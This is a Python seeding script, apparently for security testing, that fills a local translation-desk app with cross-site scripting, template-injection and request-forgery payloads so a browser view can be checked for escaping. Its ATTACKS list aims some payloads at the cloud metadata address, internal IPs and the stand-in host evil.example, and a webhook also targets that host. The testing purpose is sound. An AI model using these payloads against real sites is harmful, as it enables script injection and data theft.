"""Fills a desk with attacks in every field, for a browser to look at: hostile_desk.py HOME ROUNDS SEED."""

import random
import sys
from datetime import UTC, datetime
from html import escape
from pathlib import Path

from colophon.adapters.home import create_home
from colophon.adapters.keys import KeyFolder
from colophon.desk.setup import open_desk

home = create_home(Path(sys.argv[1]))
open_desk(home.path)

from colophon.article.credit import RightsBasis, RightsRecord, Role  # noqa: E402
from colophon.article.placeholder import is_placeholder  # noqa: E402
from colophon.desk.actions.accounts import Newcomer, found_by, open_account  # noqa: E402
from colophon.desk.actions.chats import add_chat  # noqa: E402
from colophon.desk.actions.domains import list_domain  # noqa: E402
from colophon.desk.actions.feeds import add_feed  # noqa: E402
from colophon.desk.actions.invite import ask_to_join, invite  # noqa: E402
from colophon.desk.actions.judge import dismiss, waive  # noqa: E402
from colophon.desk.actions.messages import write_messages  # noqa: E402
from colophon.desk.actions.propose import begin_translation  # noqa: E402
from colophon.desk.actions.publishing import publish_now  # noqa: E402
from colophon.desk.actions.receive import receive  # noqa: E402
from colophon.desk.actions.remark import remark  # noqa: E402
from colophon.desk.actions.rights import record_image_rights, record_with_letter  # noqa: E402
from colophon.desk.actions.sign import sign  # noqa: E402
from colophon.desk.actions.take_captured import take_captured  # noqa: E402
from colophon.desk.actions.terms import add_concept, agree_on_name  # noqa: E402
from colophon.desk.actions.translate import save_segment  # noqa: E402
from colophon.desk.actions.webhooks import make_webhook  # noqa: E402
from colophon.desk.actions.wire_rules import add_rule  # noqa: E402
from colophon.desk.models import Desk, FileKind, MessageKind, Person, Reprint, TranslationRecord  # noqa: E402
from colophon.desk.queries.checked import open_findings  # noqa: E402
from colophon.desk.roles import DeskRole  # noqa: E402
from colophon.intake.snapshot import capture  # noqa: E402
from colophon.memory.concept import Concept, Term  # noqa: E402
from colophon.memory.name import Name, NameKind, Rendering  # noqa: E402
from colophon.signoff.manifest import EditionKind  # noqa: E402
from colophon.signoff.stages import Stage  # noqa: E402
from colophon.signoff.waiver import Waivable  # noqa: E402
from colophon.testing import FakeWeb  # noqa: E402

NOW = datetime.now(UTC)
ATTACKS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    '"><svg onload=window.ran=1>',
    "'-window.ran=1-'",
    "[x](javascript:window.ran=1)",
    "![x](http://127.0.0.1:9/secret.png)",
    "</title></script><script>window.ran=1</script>",
    "{{constructor.constructor('window.ran=1')()}}",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<style>@import url(http://10.0.0.1/x.css);</style>",
    "<a href='http://169.254.169.254/' autofocus onfocus=window.ran=1>x</a>",
    "<base href=http://evil.example/><form action=//evil.example><button>x",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "<div hx-get=http://evil.example/ hx-trigger=load>",
)


def attack(chance: random.Random) -> str:
    """One attack, or two that are cut into each other."""
    first, second = chance.choice(ATTACKS), chance.choice(ATTACKS)
    at = chance.randrange(len(first))
    return first if chance.random() < 0.6 else first[:at] + second + first[at:]


def worded(chance: random.Random) -> str:
    """One that passes for words: what a template leaves behind does not."""
    return next(one for one in iter(lambda: f"It is so {attack(chance)}", "") if not is_placeholder(one))


def source(chance: random.Random) -> bytes:
    lines = "".join(
        f"<p title='{attack(chance)}'>The office counted 212 boats {attack(chance)} today.</p>" for _ in range(6)
    )
    head = f'<title>Boats {attack(chance)}</title><meta name=author content="{attack(chance)}">'
    return f"<html lang=en><head>{head}</head><body><article><h1>Boats {attack(chance)}</h1>{lines}".encode()


def filled(desk: Desk, mira: Person, number: int, chance: random.Random) -> None:
    """One source with its translation, as far as it goes."""
    captured = capture(source(chance), NOW, address=f"https://news.example/boats/{number}")
    more = {"snapshots": home.snapshots, "now": NOW, "name": "x.html"}
    taken = take_captured(desk, captured, person=mira, why=attack(chance), **more).taken
    translation = begin_translation(taken.snapshot, "de", by=mira, now=NOW).translation
    for pair in translation.pairs.all():
        text = f"Das Amt zählte 212 Boote {attack(chance)} heute."
        save_segment(pair, text, base=None, person=mira, role=Role.TRANSLATOR, now=NOW)
        pair.refresh_from_db()
        said = {"person": mira, "role": Role.REVIEWER, "now": NOW, "suggestion": attack(chance)}
        remark(pair, attack(chance), **said)
    published(translation, mira, chance)


def published(translation: TranslationRecord, mira: Person, chance: random.Random) -> None:
    rights = RightsRecord(basis=RightsBasis.LICENCE, terms=worded(chance), scope=attack(chance))
    record_with_letter(
        translation, rights, person=mira, now=NOW, letter=(attack(chance), b"<script>window.ran=1</script>")
    )
    translation.refresh_from_db()
    for image in translation.images:
        own = {"basis": RightsBasis.OWN, "terms": worded(chance), "holder": attack(chance)}
        record_image_rights(translation, image["url"], person=mira, now=NOW, **own)
    for rule in (Waivable.FOUR_EYES, Waivable.PROOFREADING, Waivable.OMISSION):
        waive(
            translation,
            rule,
            person=mira,
            reason=worded(chance),
            now=NOW,
        )
    for finding in open_findings(translation):
        dismiss(translation, finding, person=mira, reason=worded(chance), now=NOW)
    keys = KeyFolder(home.keys)
    for stage in (Stage.TRANSLATE, Stage.REVIEW):
        sign(translation, stage, person=mira, keys=keys, now=NOW)
    note = worded(chance)
    publish_now(translation, person=mira, home=home, keys=keys, kind=EditionKind.FIRST, note=note, now=NOW)


def wire(desk: Desk, mira: Person, chance: random.Random) -> None:
    """A feed that attacks in all that it says, with a rule and a domain that answer in kind."""
    web, feed = FakeWeb(now=NOW), "https://news.example/feed"
    items = "".join(
        f"<item><guid>{number}</guid><link>https://news.example/wire/{number}?{escape(attack(chance))}</link>"
        + "".join(
            f"<{name}>{escape(attack(chance))}</{name}>" for name in ("title", "author", "category", "description")
        )
        + "</item>"
        for number in range(6)
    )
    head = f"<title>{escape(attack(chance))}</title><copyright>{escape(attack(chance))}</copyright>"
    xml = (("Content-Type", "application/rss+xml"),)
    web.publish(feed, f"<rss version='2.0'><channel>{head}{items}</channel></rss>", headers=xml)
    watched = add_feed(desk, feed, web=web, person=mira, only_rules=False, now=NOW)
    add_rule(desk, {"verdict": "show", "words": [attack(chance)]}, feed=watched, person=mira, now=NOW)
    list_domain(desk, "spam.example", blocked=True, note=attack(chance), person=mira, now=NOW)


def rooms(desk: Desk, mira: Person, chance: random.Random) -> None:
    """What stands beside the texts: wire, terms, names, files, chats, reprints, requests, messages."""
    wire(desk, mira, chance)
    said = {"definition": attack(chance), "note": attack(chance), "domain": attack(chance)}
    terms = tuple(Term(language=one, text=attack(chance)) for one in ("en", "de"))
    add_concept(desk, Concept(key="boat", terms=terms, **said))
    rendering = Rendering(language="de", text=attack(chance))
    name = Name(key="ina", kind=NameKind.PERSON, original=attack(chance), language="en", renderings=(rendering,))
    agree_on_name(desk, name, person=mira, now=NOW)
    kept = {"folder": home.path / "received", "kind": FileKind.MEMORY, "by": mira, "now": NOW}
    receive(desk, [b"<tmx>" + attack(chance).encode()], name=f"{attack(chance)}.tmx", **kept)
    kinds = [MessageKind.TO_REVIEW.value]
    add_chat(desk, "jsons://chat.example/in", label=attack(chance), kinds=kinds, language="en", person=mira, now=NOW)
    Reprint.objects.create(
        desk=desk,
        translation=TranslationRecord.objects.earliest("pk"),
        address=f"https://copy.example/{attack(chance)}",
        contact=attack(chance),
        found=NOW,
        found_by=mira,
    )
    Desk.objects.update(open_to_requests=True)
    stranger = Newcomer(name=attack(chance), username="kim", password="harbour-lamp-92")
    ask_to_join(desk, open_account(stranger, key="p-kim", now=NOW).person, attack(chance), now=NOW)
    write_messages(now=NOW)


def main() -> None:
    KeyFolder(home.keys).make(valid_from=NOW.isoformat())
    chance = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 7)
    newcomer = Newcomer(name=attack(chance), username="mira", password="harbour-lamp-92")
    languages = {"languages": ["de"], "language": "en"}
    desk, account = found_by(newcomer, desk_name=f"Desk {ATTACKS[0]}", key="p-mira", now=NOW, **languages)
    invite(desk, roles=[DeskRole.GUEST], digest="d", by=account.person, now=NOW, days=7, label=attack(chance))
    make_webhook(desk, f"https://evil.example/{ATTACKS[2]}", [], salt="s", by=account.person, now=NOW)
    for number in range(int(sys.argv[2])):
        filled(desk, account.person, number, chance)
    rooms(desk, account.person, chance)
    sys.stdout.write(f"{desk.slug} {' '.join(TranslationRecord.objects.values_list('key', flat=True))}\n")


main()
